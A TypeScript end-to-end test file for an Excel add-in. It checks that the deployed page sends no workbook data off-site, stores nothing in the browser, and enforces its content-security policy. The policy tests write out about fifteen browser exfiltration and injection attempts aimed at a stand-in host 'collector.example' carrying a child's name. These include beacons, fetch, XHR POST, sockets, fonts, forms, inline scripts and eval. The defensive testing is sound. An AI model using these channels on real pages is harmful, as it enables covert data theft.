import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, jest, test } from "@jest/globals";
import type { BrowserContext, CDPSession, Frame } from "playwright-core";
import { check, dueSoonAndTrouble } from "./journeys/check";
import { setup } from "./journeys/setup";
import { share } from "./journeys/share";
import { tables } from "./journeys/tables";
import type { Preview } from "./support/preview";
import {
  type Asked,
  OFFICE_JS,
  openProductionSite,
  type ProductionSite,
} from "./support/productionSite";
import { checkSample, goTo, press, shows } from "./support/steps";

jest.setTimeout(300_000);

/** Surnames of the sample: any of them outside the workbook is a leak. */
const NAMES = /Thistlewick|Brambleforth|Corwickel|Fitchwyn|CH41\d\d/;

let site: ProductionSite;
let context: BrowserContext;
let preview: Preview;
/** Address, method and whether a body was sent, of everything that any page, frame or worker asked for. */
const asked: { readonly url: string; readonly method: string; readonly body: boolean }[] = [];

/** Chromium asks its maker for updates and for help with forms by itself, whatever page is open. */
const notTheBrowsersOwn = (requests: readonly Asked[]) =>
  requests.filter(
    ({ address }) => !/^(https?:\/\/)?[\w.-]+\.(google|googleapis|gvt1)\.com[:/]/.test(address),
  );

async function record(session: CDPSession): Promise<void> {
  session.on("Network.requestWillBeSent", ({ request: { url, method, hasPostData } }) =>
    asked.push({ url, method, body: hasPostData === true }),
  );
  session.on("Network.webSocketCreated", ({ url }) =>
    asked.push({ url, method: "WEBSOCKET", body: true }),
  );
  session.on("Network.webTransportCreated", ({ url }) =>
    asked.push({ url, method: "WEBTRANSPORT", body: true }),
  );
  await session.send("Network.enable");
}

/** The production page in its own window, recorded from its first request on. */
async function openPane(): Promise<Preview> {
  const page = await context.newPage();
  const complaints: string[] = [];
  page.on("pageerror", (error) => complaints.push(String(error)));
  page.on("console", (message) => {
    if (message.type() === "error") complaints.push(message.text());
  });
  page.on("worker", (worker) => asked.push({ url: worker.url(), method: "WORKER", body: false }));
  await record(await context.newCDPSession(page));
  await page.goto(`${site.address}/`);
  const pane = page.frameLocator("iframe");
  await pane.getByRole("navigation", { name: "Views" }).waitFor();
  return { page, pane, requests: [], complaints, close: () => page.close() };
}

function frameOf({ page }: Preview): Frame {
  const frame = page.frames().find((each) => each.url().includes("/addin/taskpane.html"));
  if (!frame) throw new Error(`No production page among ${page.frames().map((f) => f.url())}`);
  return frame;
}

beforeAll(async () => {
  site = await openProductionSite();
  context = await site.newContext();
  for (const journey of [check, dueSoonAndTrouble, tables, share, setup]) {
    const walked = await openPane();
    await journey.walk(walked, async () => undefined);
    await walked.close();
  }
  preview = await openPane();
  await checkSample(preview);
});

afterAll(() => site.close());

describe("a full session of the page as it is deployed", () => {
  test("corrects cells, and takes that back", async () => {
    await frameOf(preview).evaluate(() =>
      Excel.run(async (excel) => {
        const cell = excel.workbook.worksheets.getItem("Conferences").getRange("J5");
        cell.numberFormat = [["@"]];
        cell.values = [["25.04.2013"]];
        await excel.sync();
      }),
    );
    await press(preview, "Validate");
    await press(preview, /^Correct (all|the)/);
    await preview.pane
      .getByRole("dialog")
      .getByRole("button", { name: /^Correct/ })
      .click();
    await press(preview, "Take back the last corrections");
  });

  test("copies a table for Word", async () => {
    await goTo(preview, "Tables");
    await press(preview, /^Preview of Table 2b/);
    await press(preview, "Copy for Word");
    await shows(preview, /copied/i);
    await expect(preview.page.evaluate(() => navigator.clipboard.readText())).resolves.toMatch(
      /^(Figure|Table) /,
    );
  });

  test("saves settings", async () => {
    await goTo(preview, "Set up");
    await press(preview, "Limits");
    await preview.pane.getByLabel("At most").first().fill("14");
    await press(preview, "Save settings");
    await preview.pane.getByRole("button", { name: "Save settings", disabled: true }).waitFor();
  });

  test("saves a scrutiny copy to disk", async () => {
    await goTo(preview, "Check");
    await press(preview, "Validate");
    await shows(preview, "70 conferences checked at");
    await goTo(preview, "Share");
    await press(preview, "Prepare scrutiny copy");
    await shows(preview, "none found");
    const [download] = await Promise.all([
      preview.page.waitForEvent("download"),
      press(preview, "Save the copy"),
    ]);
    expect(download.url()).toMatch(/^blob:/);
    const saved = readFileSync(await download.path());
    expect(saved.subarray(0, 2).toString()).toBe("PK");
  });
});

describe("meanwhile", () => {
  test("nothing was asked of any host but the page's own and Microsoft's Office.js", () => {
    expect(notTheBrowsersOwn(site.elsewhere)).toEqual([]);
    const hosts = asked
      .map(({ url }) => url)
      .filter((url) => !/^(blob|data|about):/.test(url))
      .filter((url) => !url.startsWith(`${site.address}/`) && url !== OFFICE_JS);
    expect(hosts).toEqual([]);
    expect(asked.filter(({ url }) => url === OFFICE_JS).length).toBeGreaterThan(4);
  });

  test("its own server was asked for files of the add-in only: no query, no body, nothing but GET", () => {
    expect(site.own.length).toBeGreaterThan(20);
    expect(
      site.own.filter(({ method, bytesOfBody }) => method !== "GET" || bytesOfBody > 0),
    ).toEqual([]);
    const addresses = new Set(site.own.map(({ address }) => address));
    expect([...addresses].filter((address) => /[?#%]/.test(address))).toEqual([]);
    const ofTheAddIn = [...addresses].filter((address) => address.startsWith("/addin/"));
    expect(
      ofTheAddIn.filter((address) => !/^\/addin\/[\w./~-]+\.(html|js|png)$/.test(address)),
    ).toEqual([]);
    expect(asked.filter(({ body }) => body)).toEqual([]);
  });

  test("nothing of the workbook was put by in the browser", async () => {
    const kept = await frameOf(preview).evaluate(async () => ({
      local: { ...localStorage },
      session: { ...sessionStorage },
      cookies: document.cookie,
      databases: await indexedDB.databases(),
      caches: await caches.keys(),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      name: window.name,
      history: JSON.stringify(history.state),
      address: location.href,
    }));
    expect(kept).toEqual({
      local: {},
      session: {},
      cookies: "",
      databases: [],
      caches: [],
      workers: 0,
      name: "",
      history: "null",
      address: `${site.address}/addin/taskpane.html`,
    });
    expect(JSON.stringify(await context.storageState())).not.toMatch(NAMES);
  });

  test("nothing was written to the console", () => {
    expect(preview.complaints).toEqual([]);
  });
});

describe("the content-security policy of the page as it is deployed", () => {
  const POLICY = /http-equiv="?Content-Security-Policy"?\s+content="([^"]*)"/;

  test("is the one of the source, on both pages", async () => {
    const policyOf = (html: string) => POLICY.exec(html)?.[1];
    const source = policyOf(readFileSync("src/taskpane/taskpane.html", "utf8"));
    for (const name of ["taskpane.html", "commands.html"]) {
      const deployed = await (await fetch(`${site.address}/addin/${name}`)).text();
      expect(policyOf(deployed)).toBe(source);
    }
    const directives = new Map(
      source?.split(";").map((each): [string, string] => {
        const [name = "", ...values] = each.trim().split(/\s+/);
        return [name, values.join(" ")];
      }),
    );
    expect(directives.get("default-src")).toBe("'none'");
    expect(directives.get("script-src")).toBe("'self' https://appsforoffice.microsoft.com");
    expect(directives.get("connect-src")).toBe("'self'");
    expect(directives.get("form-action")).toBe("'none'");
  });

  /** Not encrypted, so that the proxy sees whole requests: a mere connection, made ahead, tells nothing. */
  const ELSEWHERE = "http://collector.example/?child=Zara";
  const tries: Readonly<Record<string, (address: string) => void>> = {
    "an inline script": () => {
      const script = document.createElement("script");
      script.textContent = "window.attacked = true";
      document.head.append(script);
    },
    "a script from elsewhere": (address) => {
      const script = document.createElement("script");
      script.src = address;
      document.head.append(script);
    },
    "an attribute that is a script": () => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "window.attacked = true");
      image.src = "data:image/png,none";
      document.body.append(image);
    },
    "a text as a script": () => {
      // Later, when it is the page that runs it and not this test.
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: it must be refused
          globalThis.eval("window.attacked = true");
        } catch {
          // Refused: the violation is what is looked for.
        }
      });
    },
    "a picture": (address) => {
      new Image().src = address;
    },
    "a request": (address) => void fetch(address, { mode: "no-cors" }).catch(() => undefined),
    "a request of the old kind": (address) => {
      const request = new XMLHttpRequest();
      request.open("POST", address);
      request.send("Zara");
    },
    "a beacon": (address) => void navigator.sendBeacon(address, "Zara"),
    "a socket": (address) => {
      try {
        new WebSocket(address.replace("http", "ws"));
      } catch {
        // refused at once
      }
    },
    "a stream of events": (address) => void new EventSource(address),
    "a frame": (address) => {
      const frame = document.createElement("iframe");
      frame.src = address;
      document.body.append(frame);
    },
    "a style sheet": (address) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = address;
      document.head.append(link);
    },
    "a font": (address) => {
      const font = new FontFace("Stolen", `url(${address})`);
      font.load().catch(() => undefined);
    },
    "a worker that is no file": () => {
      const blob = new Blob(["postMessage(1)"], { type: "text/javascript" });
      new Worker(URL.createObjectURL(blob)).onmessage = () =>
        Object.assign(window, { attacked: true });
    },
    "another base for addresses": (address) => {
      const base = document.createElement("base");
      base.href = address;
      document.head.append(base);
    },
  };

  test.each(Object.entries(tries))("refuses %s", async (_, attempt) => {
    const frame = frameOf(preview);
    const before = site.elsewhere.length;
    const refused = frame.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener(
            "securitypolicyviolation",
            ({ effectiveDirective }) => resolve(effectiveDirective),
            { once: true },
          );
          setTimeout(() => resolve("nothing was refused"), 10_000);
        }),
    );
    await frame.evaluate(attempt, ELSEWHERE);
    expect(await refused).not.toBe("nothing was refused");
    expect(await frame.evaluate(() => "attacked" in window)).toBe(false);
    expect(notTheBrowsersOwn(site.elsewhere.slice(before))).toEqual([]);
  });

  // The browser then shows its own page in place of the pane: so it comes last.
  test("refuses a form", async () => {
    const before = site.elsewhere.length;
    const blocked = preview.page.waitForEvent("framenavigated");
    await frameOf(preview).evaluate((address) => {
      const form = document.createElement("form");
      form.action = address;
      form.method = "post";
      document.body.append(form);
      form.submit();
    }, ELSEWHERE);
    expect((await blocked).url()).toMatch(/^chrome-error:/);
    expect(notTheBrowsersOwn(site.elsewhere.slice(before))).toEqual([]);
  });
});
